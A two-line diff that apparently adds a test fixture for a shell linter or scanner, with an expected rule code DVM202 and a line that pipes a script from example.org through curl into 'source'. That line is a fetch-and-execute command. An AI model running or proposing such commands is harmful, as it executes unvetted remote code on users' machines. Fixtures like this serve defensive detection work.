@@ -1,0 +1,2 @@
+# expect: DVM202
+source <(curl -fsSL https://example.org/env.sh)
